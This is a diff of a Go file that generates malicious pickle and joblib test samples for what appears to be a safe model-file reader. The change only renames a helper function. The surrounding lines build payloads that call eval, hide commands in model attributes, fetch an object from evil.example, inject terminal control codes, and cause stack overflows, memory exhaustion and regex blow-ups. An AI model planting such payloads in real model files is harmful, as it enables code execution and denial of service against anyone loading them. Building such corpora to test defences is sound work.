@@ -50,7 +50,7 @@ func programs() []File {
 		{"eval.joblib", "to call `builtins.eval` by a name from the stack", []byte("\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x011\x85R.")},
 		{"class.pkl", "to run `__setstate__` of a class of the file's author", pickled("cpayload\nModel\n)\x81}" + str("x") + "Nsb")},
 		{"kernel.pkl", "to hide a call in an attribute that the reader needs", pickled(object("sklearn.svm._classes.SVC", str("kernel"), command))},
-		{"callback.pkl", "to hide a call in an attribute of a good model that predicting does not need", pickled(line(2, str("callback"), command))},
+		{"callback.pkl", "to hide a call in an attribute of a good model that predicting does not need", pickled(linear(2, str("callback"), command))},
 		{"outside.pkl", "to have the reader fetch an object from elsewhere, by a persistent id", []byte("Phttp://evil.example/x\n.")},
 		{"registry.pkl", "to name a class by the registry of extensions", []byte("\x80\x02\x82\x01.")},
 		{"terminal.pkl", "to write control codes into a terminal or a status, by the name of a class", pickled("cevil\x1b[2J\nModel\x07\n)\x81}" + str("x") + "Nsb")},
@@ -59,7 +59,7 @@ func programs() []File {
 
 // graphs hold objects that mention each other, or one object many times.
 func graphs() []File {
-	doubled, nested := []string{remember(0, scaler(2))}, line(2)
+	doubled, nested := []string{remember(0, scaler(2))}, linear(2)
 	for i := range byte(12) {
 		doubled = append(doubled, remember(i+1, pipeline(strings.TrimSuffix(strings.Repeat(recall(i)+"\x86"+str("a"), 10), "\x86"+str("a")))))
 	}
@@ -70,7 +70,7 @@ func graphs() []File {
 	columns := chosen(1, str("passthrough"), itself)
 	return []File{
 		{"pipeline-in-itself.pkl", "to keep the reader busy forever: a Pipeline whose step is that Pipeline", []byte("\x80\x02csklearn.pipeline\nPipeline\n)\x81q\x00}" + str("steps") + "]" + str("a") + "h\x00\x86asb.")},
-		{"list-in-itself.pkl", "to overflow the stack: columns that are a list of which the first item is that list", pickled(pipeline(columns, line(1)))},
+		{"list-in-itself.pkl", "to overflow the stack: columns that are a list of which the first item is that list", pickled(pipeline(columns, linear(1)))},
 		{"nested.pkl", "to overflow the stack: a thousand Pipelines in each other", pickled(nested)},
 		{"doubled.pkl", "to become 10^12 estimators: each Pipeline mentions the one before ten times", pickled(recall(12), doubled...)},
 		{"copies.pkl", "to become 100 GB: one long text, encoded again and again", pickled("("+strings.Repeat("h\x00h\x01R", 100_000)+"l", remember(0, "c_codecs\nencode\n"), remember(1, str(strings.Repeat("x", 1<<20))+str("latin1")+"\x86"))},
@@ -136,13 +136,13 @@ func costly() []File {
 		File{"length.pkl", "to have a gigabyte allocated, of which the file has three bytes", []byte("\x80\x02B\x00\x00\x00\x40abc")},
 		File{"shape.pkl", "to overflow the product of a shape", pickled(array(dtype("f8"), "", math31, math31, math31))},
 		File{"rows.pkl", "to have 16 GB allocated for a matrix of 2^31-1 rows without columns", pickled(pipeline(object("sklearn.decomposition._pca.PCA",
-			str("components_"), array(dtype("f8"), "", math31, 0), str("mean_"), array(dtype("f8"), "", 0)), line(2)))},
-		File{"features.pkl", "to make a block of 2^31 columns of a request of one: a vectorizer that says it has as many", pickled(pipeline(vectorizer("HashingVectorizer", str("n_features"), whole(math31), str("norm"), "N"), line(2)))},
+			str("components_"), array(dtype("f8"), "", math31, 0), str("mean_"), array(dtype("f8"), "", 0)), linear(2)))},
+		File{"features.pkl", "to make a block of 2^31 columns of a request of one: a vectorizer that says it has as many", pickled(pipeline(vectorizer("HashingVectorizer", str("n_features"), whole(math31), str("norm"), "N"), linear(2)))},
 		File{"columns.pkl", "to have gigabytes of metadata made: a ColumnTransformer of 50 million columns, the first of which is a text", pickled(pipeline(chosen(50_000_000,
-			object("sklearn.preprocessing._encoders.OneHotEncoder", str("handle_unknown"), str("ignore"), str("categories_"), "]"+array(dtype("U1"), "a\x00\x00\x00", 1)+"a"), "]K\x00a"), line(1)))},
+			object("sklearn.preprocessing._encoders.OneHotEncoder", str("handle_unknown"), str("ignore"), str("categories_"), "]"+array(dtype("U1"), "a\x00\x00\x00", 1)+"a"), "]K\x00a"), linear(1)))},
 		File{"union.pkl", "to make a row of 1 GB of each of 1 MB: a FeatureUnion that passes its input through a thousand times", deflated(pickled(pipeline(wide, tree(1001<<17, node{-1, -1, 0}))))},
-		File{"pattern.pkl", "to take exponential time for a text: `(?:a+)+b` as a `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str("(?:a+)+b"), vocabulary), line(1)))},
-		File{"repeats.pkl", "to make an automaton of a million states of a short `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str(`(?:(?:\w{30}a){30}b)`), vocabulary), line(1)))},
+		File{"pattern.pkl", "to take exponential time for a text: `(?:a+)+b` as a `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str("(?:a+)+b"), vocabulary), linear(1)))},
+		File{"repeats.pkl", "to make an automaton of a million states of a short `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str(`(?:(?:\w{30}a){30}b)`), vocabulary), linear(1)))},
 	)
 }
 
